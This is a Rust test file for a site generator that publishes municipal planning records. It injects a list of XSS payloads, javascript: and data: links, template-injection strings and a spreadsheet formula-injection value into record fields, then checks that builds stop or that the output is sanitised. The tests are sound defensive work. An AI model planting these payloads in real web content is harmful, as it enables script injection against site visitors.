//! Hostile texts in every place where an office writes one, and hostile files beside them: each is stopped, or comes to a
//! page as harmless words.

#![expect(clippy::disallowed_methods, reason = "tests write sites and read what was published")]

#[cfg(unix)]
#[path = "../hostile/files.rs"]
mod files;

use std::cell::RefCell;
use std::collections::BTreeMap;

use crate::common::SiteTest;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use rayon::prelude::*;
use vetro::Outcome;

/// What becomes of a site.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Answer {
    /// Nothing is published.
    Stopped,
    /// It is published, with the words as words.
    Harmless,
    /// It is published without what would run, and the office is told.
    Sanitised,
}

use Answer::{Harmless, Sanitised, Stopped};

/// Texts, each with what becomes of a site that has it as the body of a record. In fields all are words.
const TEXTS: [(&str, Answer); 42] = [
    ("<script>alert(1)</script>", Sanitised),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", Sanitised),
    ("<<script>alert(1)//<</script>", Sanitised),
    ("<script/x>alert(1)</script>", Sanitised),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", Sanitised),
    ("<b onmouseover=alert(1)>parola</b>", Sanitised),
    ("<b\u{c}onclick=alert(1)>parola</b>", Sanitised),
    ("<svg onload=alert(1)></svg>", Sanitised),
    ("<svg><script>alert(1)</script></svg>", Sanitised),
    ("<svg><animate onbegin=alert(1) attributeName=x></svg>", Sanitised),
    ("<math><mtext><table><mglyph><style><b onclick=alert(1)>", Sanitised),
    ("<iframe src=//evil.example></iframe>", Sanitised),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", Sanitised),
    ("<object data=//evil.example></object>", Sanitised),
    ("<embed src=//evil.example>", Sanitised),
    ("<base href=//evil.example/>", Sanitised),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>", Sanitised),
    ("<link rel=stylesheet href=//evil.example/x.css>", Sanitised),
    ("<style>@import '//evil.example/x.css';</style>", Sanitised),
    ("<form action=//evil.example><input name=a></form>", Sanitised),
    ("<button formaction=//evil.example>Invia</button>", Sanitised),
    ("<details open ontoggle=alert(1)>x</details>", Sanitised),
    ("<video><source onerror=alert(1)></video>", Sanitised),
    ("<noscript><p title=\"</noscript><b onclick=alert(1)>x</b>\">", Sanitised),
    ("<template><script>alert(1)</script></template>", Sanitised),
    ("<textarea autofocus onfocus=alert(1)>", Sanitised),
    ("</title><script>alert(1)</script>", Sanitised),
    ("--><script>alert(1)</script><!--", Sanitised),
    ("]]><script>alert(1)</script>", Sanitised),
    ("\"'><script>alert(1)</script>", Sanitised),
    ("<a href=\"javascript:alert(1)\">parola</a>", Stopped),
    ("<a href=\"java&#x09;script:alert(1)\">parola</a>", Stopped),
    ("<a href=\" &#14; JaVaScRiPt:alert(1)\">parola</a>", Stopped),
    ("<a href=\"data:text/html,<script>alert(1)</script>\">parola</a>", Stopped),
    ("[parola](javascript:alert(1))", Stopped),
    ("[parola](vbscript:x)", Stopped),
    ("![parola](data:text/html;base64,PHNjcmlwdD4=)", Stopped),
    ("<javascript:alert(1)>", Stopped),
    ("{{ config }} {% include 'x' %} {{ 7 * 7 }}", Sanitised),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", Harmless),
    ("parola \u{202e}atlov\u{2066} \u{feff} \u{2028} e\u{301}\u{301}\u{301} 🌱", Harmless),
    ("=cmd|' /C calc'!A0", Harmless),
];

/// Places where a text is a field of a record, of an office or of the site, with what is written around it.
const FIELDS: [(&str, &str); 12] = [
    (SHEET, "title: TEXT\nunit: comune\n"),
    (SHEET, "title: t\nunit: comune\nlead: TEXT\nsummary: TEXT\nnote: TEXT\n"),
    (SHEET, "title: t\nunit: comune\ntype: TEXT\nclassification: TEXT\n"),
    (SHEET, "title: t\nunit: comune\nphases: [{title: TEXT, notes: TEXT, responsible: {name: TEXT, role: TEXT}}]\n"),
    (SHEET, "title: t\nunit: comune\nindicators: [{title: TEXT, definition: TEXT, comment: TEXT, kind: TEXT}]\n"),
    (
        SHEET,
        "title: t\nunit: comune\nindicators: [{title: t, target: TEXT, actual: TEXT, baseline: TEXT, unit_of_measure: TEXT}]\n",
    ),
    (SHEET, "title: t\nunit: comune\nindicators: [{title: t, thread: TEXT, target: 1}]\n"),
    (SHEET, "title: t\nunit: comune\nsource: {title: TEXT}\napproved_by: {act: TEXT}\n"),
    (PROJECT, "title: TEXT\nunit: comune\namount: TEXT\nmilestones: [{title: TEXT, date: TEXT}]\n"),
    (PAGE, "title: TEXT\nlead: TEXT\n"),
    (UNITS, "- {id: comune, name: TEXT, kind: TEXT, description: TEXT}\n"),
    (
        "site.toml",
        "[site]\ntitle = TEXT\nbase_url = \"https://example.org\"\n[city]\nname = TEXT\n[check]\nprofiles = []\n",
    ),
];

/// Addresses that no link may have, and the fields that hold one.
const ADDRESSES: [&str; 7] = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "\\u0001javascript:alert(1)",
];
const LINKS: [(&str, &str); 7] = [
    (SHEET, "title: t\nunit: comune\nsource: {title: t, url: TEXT}\n"),
    (SHEET, "title: t\nunit: comune\napproved_by: {act: t, url: TEXT}\n"),
    (SHEET, "title: t\nunit: comune\nindicators: [{title: t, target: 1, actual: 1, evidence: TEXT}]\n"),
    (SHEET, "title: t\nunit: comune\ndocuments: [{title: t, href: TEXT}]\n"),
    (PROJECT, "title: t\nunit: comune\ndocuments: [{title: t, href: TEXT}]\n"),
    (
        "site.toml",
        "[site]\ntitle = \"t\"\nbase_url = \"https://example.org\"\n[links]\nlegal = TEXT\n[check]\nprofiles = []\n",
    ),
    (
        "site.toml",
        "[site]\ntitle = \"t\"\nbase_url = \"https://example.org\"\n[links]\nreport_error = TEXT\n[check]\nprofiles = []\n",
    ),
];

const SHEET: &str = "content/objectives/2024/A1.md";
const PROJECT: &str = "content/projects/p/index.md";
const PAGE: &str = "content/pages/a.md";
const UNITS: &str = "content/units.yaml";

fn site(path: &str, text: &str) -> SiteTest {
    SiteTest::new()
        .file(SHEET, "---\ntitle: t\nunit: comune\n---\nEcco.\n")
        .file(PROJECT, "---\ntitle: t\nunit: comune\n---\nEcco.\n")
        .file(path, text)
}

/// The site with a text in a field, quoted as YAML and TOML both quote.
fn with_field(path: &str, around: &str, text: &str) -> SiteTest {
    let quoted = serde_json::to_string(text)
        .expect("a text")
        .replace('\u{c}', "\\f")
        .replace('\u{202e}', "\\u202e");
    let fields = around.replace("TEXT", &quoted);
    let whole = if path.ends_with(".md") { format!("---\n{fields}---\nEcco.\n") } else { fields };
    site(path, &whole)
}

/// What a browser would run, load or send somewhere.
#[derive(Default)]
struct Active(RefCell<BTreeMap<String, usize>>);

impl Active {
    fn of(html: &str) -> BTreeMap<String, usize> {
        let tokenizer = Tokenizer::new(Self::default(), html5ever::tokenizer::TokenizerOpts::default());
        let input = BufferQueue::default();
        input.push_back(StrTendril::from(html));
        let _ = tokenizer.feed(&input);
        tokenizer.end();
        tokenizer.sink.0.into_inner()
    }

    fn look(&self, tag: &Tag) {
        const ELEMENTS: [&str; 13] = [
            "script", "iframe", "object", "embed", "base", "form", "style", "frame", "applet", "template", "noscript",
            "math", "meta",
        ];
        const LOADED: [&str; 9] =
            ["href", "src", "srcset", "action", "formaction", "data", "poster", "style", "background"];
        let found = |what: String| *self.0.borrow_mut().entry(what).or_default() += 1;
        let name = &*tag.name;
        if ELEMENTS.contains(&name) {
            found(name.to_owned());
        }
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, attribute.value.trim().to_ascii_lowercase());
            let value: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let is_dangerous = ["javascript:", "vbscript:", "data:"].iter().any(|scheme| value.starts_with(scheme));
            if key.starts_with("on") || LOADED.contains(&key) && (is_dangerous || value.contains("evil.example")) {
                found(format!("{name} {key}"));
            }
        }
    }
}

impl TokenSink for Active {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token
            && tag.kind == TagKind::StartTag
        {
            self.look(&tag);
        }
        TokenSinkResult::Continue
    }
}

/// Builds a site, and says what became of it. What it publishes is as harmless as the site of which nobody means harm.
fn answer(site: &SiteTest, sound: &BTreeMap<String, usize>, what: &str) -> Answer {
    let (outcome, codes) = site.try_build();
    if matches!(outcome, Outcome::Wrong) {
        assert!(!site.output().join("index.html").exists(), "{what}");
        return Stopped;
    }
    for (path, bytes) in site.published() {
        let text = String::from_utf8_lossy(&bytes);
        if path.ends_with(".html") {
            for (found, count) in Active::of(&text) {
                assert!(sound.get(&found).is_some_and(|most| count <= *most), "{what}: {path} has {count} × {found}");
            }
        } else if path.ends_with(".xml") {
            roxmltree::Document::parse(&text).unwrap_or_else(|error| panic!("{what}: {path}: {error}"));
        } else if path.ends_with(".json") {
            serde_json::from_slice::<serde_json::Value>(&bytes)
                .unwrap_or_else(|error| panic!("{what}: {path}: {error}"));
        } else if path.ends_with(".csv") {
            assert!(!bytes.contains(&0), "{what}: {path}");
        }
    }
    if codes.is_empty() { Harmless } else { Sanitised }
}

/// The most that a page of a sound site has of each.
fn sound() -> BTreeMap<String, usize> {
    let site = site(PAGE, "---\ntitle: t\n---\nEcco.\n");
    site.build();
    let mut most = BTreeMap::new();
    for (path, bytes) in site.published() {
        if path.ends_with(".html") {
            for (found, count) in Active::of(&String::from_utf8_lossy(&bytes)) {
                let most: &mut usize = most.entry(found).or_default();
                *most = count.max(*most);
            }
        }
    }
    most
}

#[test]
fn the_tags_that_a_browser_would_run_are_found() {
    for html in [
        "<script>alert(1)</script>",
        "<b onclick=x>",
        "<a href='java\tscript:x'>",
        "<img src=//evil.example/x>",
        "<iframe>",
        "<!-- --!><script>x</script>",
    ] {
        assert_eq!(Active::of(html).len(), 1, "{html}");
    }
    assert!(Active::of("<p title='<script>'>&lt;script&gt; <b>on=</b></p>").is_empty());
}

#[test]
fn hostile_texts_in_fields_are_words_or_stop_the_site() {
    let sound = sound();
    let sites: Vec<(&str, &str, &str)> = (FIELDS.iter())
        .flat_map(|(path, around)| TEXTS.iter().map(|(text, _)| (*path, *around, *text)))
        .collect();
    assert!(sites.len() >= 400, "{}", sites.len());
    sites.par_iter().for_each(|(path, around, text)| {
        // Nothing is active in a field: whatever is said of it, what is published is harmless.
        answer(&with_field(path, around, text), &sound, &format!("{path}: {around}: {text}"));
    });
}

#[test]
fn hostile_texts_in_bodies_get_the_expected_answer() {
    let sound = sound();
    TEXTS.par_iter().for_each(|(text, expected)| {
        for (path, front) in
            [(SHEET, "title: t\nunit: comune"), (PROJECT, "title: t\nunit: comune"), (PAGE, "title: t")]
        {
            let site = site(path, &format!("---\n{front}\n---\nEcco: {text}\n\n{text}\n"));
            assert_eq!(answer(&site, &sound, text), *expected, "{path}: {text}");
        }
    });
}

#[test]
fn dangerous_addresses_stop_the_site_or_are_words() {
    let sound = sound();
    let sites: Vec<(&str, &str, &str)> = (LINKS.iter())
        .flat_map(|(path, around)| ADDRESSES.iter().map(|address| (*path, *around, *address)))
        .collect();
    sites.par_iter().for_each(|(path, around, address)| {
        let fields = around.replace("TEXT", &format!("\"{address}\""));
        let whole = if path.ends_with(".md") { format!("---\n{fields}---\nEcco.\n") } else { fields };
        let what = format!("{path}: {around}: {address}");
        let answer = answer(&site(path, &whole), &sound, &what);
        assert!(answer != Harmless, "{what}: nothing is said");
        assert!(answer == Stopped || !address.starts_with("javascript:a"), "{what}");
    });
}
